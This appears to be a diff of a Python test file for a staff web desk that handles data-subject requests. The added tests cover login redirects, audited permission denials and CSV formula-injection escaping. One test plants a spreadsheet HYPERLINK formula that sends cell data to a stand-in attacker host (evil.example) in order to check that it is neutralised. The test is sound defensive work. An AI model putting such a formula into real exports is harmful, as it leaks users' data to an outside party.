@@ -7,6 +7,8 @@ for real Chromium).
 
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -17,6 +19,7 @@ from sqlmodel import col, select
 from starlette.testclient import TestClient
 
 from bot.settings import Settings
+from bot.web.routes_report import csv_text, load_report
 from storage.db import Database
 from storage.models import AuditEntry, Case, Customer, OutboundMessage
 from storage.staff_logins import StaffLogin
@@ -316,6 +319,17 @@ def test_action_without_a_valid_csrf_token_is_403_and_changes_nothing(
     assert row.status == "awaiting_approval" and row.assignee is None and not row.extended
 
 
+def test_stranger_is_sent_to_login_from_reports_csv_and_attachments(
+        web: TestClient, case_id: str, db: Database) -> None:
+    for path in ("/reports", "/reports.csv", f"/cases/{case_id}/messages/1/attachments/0",
+                 f"/cases/{case_id}/messages/1/attachments/0?inline=1", f"/cases/{case_id}"):
+        response = web.get(path)
+        assert (response.status_code, response.headers["location"]) == (303, "/login"), path
+        assert kit.png() != response.content and "month," not in response.text
+    assert audit_actions(db, "case.attachment_viewed") == []
+    assert audit_actions(db, "web.report_downloaded") == []
+
+
 def test_stranger_cannot_act(web: TestClient, case_id: str, db: Database) -> None:
     response = web.post(f"/cases/{case_id}/approve", data={"csrf_token": "x"})
     assert response.status_code == 403
@@ -328,12 +342,20 @@ def test_viewer_cannot_decide_and_the_attempt_is_audited(
     for verb, data in (("approve", {}), ("refuse", {"reason": "no"}),
                        ("extend", {"reason": "busy"}), ("assign", {}),
                        ("verify", {"note": "called"}), ("ban", {"ban": "marketing",
-                                                                 "note": "phone"})):
+                                                                 "note": "phone"}),
+                       ("ask", {"question": "Which order?"}),
+                       ("received", {"received_on": "2020-01-02", "reason": "a letter"})):
         response = web.post(f"/cases/{case_id}/{verb}", data={"csrf_token": token, **data})
         assert response.status_code == 403, verb
-    assert case_row(db, case_id).status == "awaiting_approval"
+    row = case_row(db, case_id)
+    assert row.status == "awaiting_approval" and row.received_at.year != 2020
+    with db.read_session() as s:
+        assert s.exec(select(OutboundMessage).where(
+            OutboundMessage.kind == "information_request")).all() == []
     denials = audit_actions(db, "case.denied")
-    assert len(denials) == 6 and {e.actor for e in denials} == {"staff:ville"}
+    assert len(denials) == 8 and {e.actor for e in denials} == {"staff:ville"}
+    assert [e.details["attempted"] for e in denials][-2:] == ["request_information",
+                                                              "set_received_date"]
 
 
 def test_refuse_needs_a_reason_and_records_it(
@@ -384,16 +406,6 @@ def test_staff_verification_needs_a_note_and_moves_the_case_on(
     assert entry.actor == "staff:aino"
 
 
-def test_ban_sets_the_customer_flag(web: TestClient, case_id: str, db: Database) -> None:
-    token = kit.login(web, "aino")
-    web.post(f"/cases/{case_id}/ban", data={"csrf_token": token, "ban": "marketing",
-                                           "note": "asked on the phone"})
-    with db.read_session() as s:
-        customer = s.exec(select(Customer)).one()
-    assert customer.marketing_ban and not customer.publication_ban
-    assert audit_actions(db, "register.ban_applied")[0].actor == "staff:aino"
-
-
 def test_receipt_date_can_only_be_set_back_and_moves_the_due_date(
         web: TestClient, case_id: str, db: Database) -> None:
     token = kit.login(web, "aino")
@@ -424,6 +436,12 @@ def test_report_page_has_a_server_drawn_chart_and_the_csv_neutralises_formulas(
     lines = response.content.decode("utf-8-sig").splitlines()
     assert lines[0].startswith("month,requests,type_access,type_erasure,language_fi")
     assert lines[-1].startswith("total,2,1,1,2")
+    # Every cell the desk writes goes through safe_cell: one that would start a formula
+    # (here a month label) reaches the spreadsheet as text.
+    report = load_report(web.app.state.desk)
+    report.months[0].month = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    row = next(csv.reader(io.StringIO(csv_text(report).splitlines()[1])))
+    assert row[0] == "'" + report.months[0].month and row[1] == "2"
 
 
 def test_case_page_shows_what_holds_an_erasure(
